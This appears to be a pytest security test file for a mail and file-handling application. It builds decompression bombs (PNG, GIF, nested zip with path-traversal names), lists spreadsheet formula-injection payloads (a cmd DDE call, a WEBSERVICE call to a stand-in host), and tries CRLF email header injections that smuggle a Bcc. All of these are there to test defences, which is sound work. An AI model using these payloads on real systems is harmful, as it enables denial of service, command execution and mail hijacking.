"""Files that unfold, pictures that lie, cells that reckon and subjects that bring headers of their own."""

import csv
import io
import random
import struct
import tracemalloc
import zipfile
import zlib
from email import message_from_bytes, policy

import pytest
from PIL import Image

from zabota.channels.mail.letter import Address, Attachment
from zabota.channels.mail.read import read
from zabota.channels.mail.write import Outgoing, write
from zabota.core.actions.store_file import store_file
from zabota.core.export.cells import neutral

# ---- bombs


def chunk(kind: bytes, said: bytes) -> bytes:
    return struct.pack(">I", len(said)) + kind + said + struct.pack(">I", zlib.crc32(kind + said))


def png_bomb(side: int) -> bytes:
    """A picture of side x side pixels in a few kilobytes."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(min(side * (side // 8 + 1), 20_000_000)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def gif_bomb() -> bytes:
    """A picture of 65535 x 65535 in a hundred bytes."""
    return (
        b"GIF89a\xff\xff\xff\xff\x80\x00\x00"
        + b"\x00" * 6
        + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\x00;"
    )


def zip_bomb() -> bytes:
    """A hundred megabytes of nothing, twice packed."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("0.dat", bytes(100_000_000))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as packed:
        for number in range(20):
            packed.writestr(f"../../{number}.zip", inner.getvalue())
    return outer.getvalue()


MOST_BYTES = 60_000_000
"""So much memory, at most, may a stranger's file of a few kilobytes take."""


def test_a_file_that_unfolds_is_kept_as_it_came(db):
    for content, name in (
        (png_bomb(60_000), "x.png"),
        (png_bomb(12_000), "x.png"),
        (gif_bomb(), "x.gif"),
        (zip_bomb(), "x.zip"),
        (zip_bomb(), "x.xlsx"),
    ):
        tracemalloc.start()
        stored = store_file(content, name)
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert not stored.is_picture and stored.path.read_bytes() == content
        assert peak < len(content) * 4 + MOST_BYTES, f"{name}: {peak}"


def pictures() -> list[bytes]:
    made = []
    picture = Image.radial_gradient("L").resize((48, 48)).convert("RGB")
    for kind in ("PNG", "JPEG", "GIF", "WEBP"):
        out = io.BytesIO()
        picture.save(out, kind, exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0" if kind in ("JPEG", "WEBP") else b"")
        made.append(out.getvalue())
    return made


def spoiled(content: bytes, chance: random.Random) -> bytes:
    """A byte or more changed, a piece doubled, or the end cut off."""
    said = bytearray(content)
    for _again in range(chance.randint(1, 12)):
        said[chance.randrange(len(said))] = chance.randrange(256)
    if chance.random() < 0.3:
        del said[chance.randrange(8, len(said)) :]
    if chance.random() < 0.2:
        at = chance.randrange(len(said))
        said[at:at] = said[at : at + 40] * 3
    return bytes(said)


def keep_spoiled(rounds: int) -> int:
    chance = random.Random(5)
    shown = 0
    for number in range(rounds):
        content = spoiled(pictures()[number % 4], chance)
        stored = store_file(content, "фото.jpg")
        if stored.is_picture:
            shown += 1
            with Image.open(stored.preview_path) as preview:
                assert preview.format == "WEBP"
        stored.path.unlink()
    print(f"\nspoiled pictures: {rounds}, still shown, re-encoded: {shown}, errors: 0")
    return shown


def test_a_spoiled_picture_is_kept_and_never_an_error(db):
    assert keep_spoiled(120) > 10


@pytest.mark.soak
def test_many_spoiled_pictures_are_kept(db):
    assert keep_spoiled(20_000) > 100


# ---- cells

COMMANDS = ["cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1)", "1+1", "SUM(1)", "WEBSERVICE(\"http://x.example\")",  # noqa: E501
            "@SUM(1)", "DDE(\"cmd\";\"/C calc\";\"x\")"]  # fmt: skip
SIGNS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"]
BEFORE = ["", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "  \t", "\u2003"]


def test_no_cell_begins_as_a_formula():
    cells = [before + sign + command for before in BEFORE for sign in SIGNS for command in COMMANDS]
    for cell in cells:
        said = io.StringIO()
        csv.writer(said).writerow([neutral(cell)])
        [[kept]] = csv.reader(io.StringIO(said.getvalue(), newline=""))
        assert kept.lstrip("\ufeff")[0] == "'", repr(cell)
    print(f"\ncells that begin as a formula: {len(cells)}, left as one: 0")
    assert [neutral(text) for text in ("Ёлка = 5", "a-b", "Țară")] == ["Ёлка = 5", "a-b", "Țară"]
    assert csv_as_it_came(cells[0])[0] in SIGNS, "the control: unguarded, the first cell is a formula"


def csv_as_it_came(cell: str) -> str:
    said = io.StringIO()
    csv.writer(said).writerow([cell])
    return next(csv.reader(io.StringIO(said.getvalue(), newline="")))[0]


# ---- headers

BREAKS = [
    *("\r\n", "\n", "\r", "\r\n\r\n", "\n\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"),
    *("%0d%0a", "=0D=0A", "=?utf-8?q?=0D=0A?=", "\r\n\t", "\r\n ", "\x00\r\n", "嘊嘍"),
]
INJECTED = [
    "Bcc: thief@example.com",
    "Content-Type: text/html",
    "\r\n<script>",
    "X-Injected: 1",
    "Reply-To: t@example.com",
]
PLACES = ["subject", "name", "to name", "file", "reply", "references", "text"]


def letter(place: str, said: str) -> bytes:
    def put(here: str, usual: str) -> str:
        return usual + said if place == here else usual

    return write(
        Outgoing(
            sender=Address(put("name", "Забота"), "help@zabota.example"),
            to=[Address(put("to name", "Вера"), "vera@example.com")],
            cc=[],
            subject=put("subject", "Заказ"),
            message_id="<one@zabota.example>",
            text=put("text", "Bună ziua"),
            in_reply_to=put("reply", "<two@example.com>"),
            references=[put("references", "<three@example.com>")],
            attachments=[Attachment(put("file", "счёт.txt"), "text/plain", b"x")],
        )
    ).as_bytes()


def headers_of(mail: bytes) -> set[str]:
    return {name.lower() for name in message_from_bytes(mail, policy=policy.compat32)}


def test_no_text_of_a_stranger_brings_a_header_of_its_own():
    """Also after our own answer is read again, as the next server reads it."""
    usual = headers_of(letter("nothing", ""))
    tried = refused = 0
    for place in PLACES:
        for brk in BREAKS:
            for more in INJECTED:
                tried += 1
                try:
                    mail = letter(place, brk + more)
                except ValueError:
                    refused += 1
                    continue
                assert headers_of(mail) <= usual, (place, brk, more)
                recipients = {address.email for address in read(mail).to}
                assert recipients == {"vera@example.com"}, (place, brk, more)
                assert mail.count(b"thief@example.com") == 0 or b"\nBcc:" not in mail.split(b"\r\n\r\n")[0]
    print(f"\nheaders brought by strangers' texts: {tried} tried, {refused} refused, 0 came through")


def test_the_harness_sees_a_header_that_came_through():
    """The control: put in as it came, it is one header more."""
    mail = letter("nothing", "").replace(b"\nMessage-ID:", b"\nBcc: thief@example.com\nMessage-ID:", 1)
    assert "bcc" in headers_of(mail)
